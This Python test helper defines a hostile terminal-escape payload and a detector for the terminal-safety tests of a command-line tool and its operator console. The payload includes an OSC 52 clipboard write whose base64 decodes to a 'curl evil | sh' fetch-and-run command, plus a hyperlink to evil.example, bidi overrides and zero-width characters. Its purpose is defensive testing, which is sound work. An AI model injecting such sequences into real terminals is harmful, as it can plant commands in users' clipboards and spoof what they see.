"""Text an identity provider or a client could send to make a terminal act: the payload the
terminal-safety tests of the commands and the operator console feed through every place that
shows outside text, and the check that none of it reached the terminal raw."""

from __future__ import annotations

import re

ESCAPES = (
    "\x1b[2J\x1b[31m"  # CSI: clear the screen, red
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"  # OSC 8: a hyperlink
    "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # OSC 52: set the clipboard, BEL-terminated
    "\x07\x9b2J\x85\x9d0;title\x9c"  # BEL, 8-bit CSI, NEL, 8-bit OSC and ST
    "\u202eevil\u202c\u2066iso\u2069"  # bidi override and isolate
    "\u200b\u200c\u200d\u2060\ufeff"  # zero-width space, non-joiner, joiner, word joiner, BOM
    "\r\n\tfake  row  active"  # a line of its own
)
SHOWN = "\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07"
"""How the OSC 52 sequence reads once escaped: what the operator sees instead."""
UNSAFE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]"
)
"""Any character a terminal acts on or draws as nothing (line feeds end lines)."""


def hostile(start: str, size: int) -> str:
    """``start``, every escape above, then filler up to ``size`` characters."""
    text = start + ESCAPES
    return text + "W" * (size - len(text))


def assert_no_unsafe(text: str) -> None:
    found = sorted({f"U+{ord(c):04X}" for c in UNSAFE.findall(text)})
    assert not found, f"raw control characters reached the terminal: {found}"
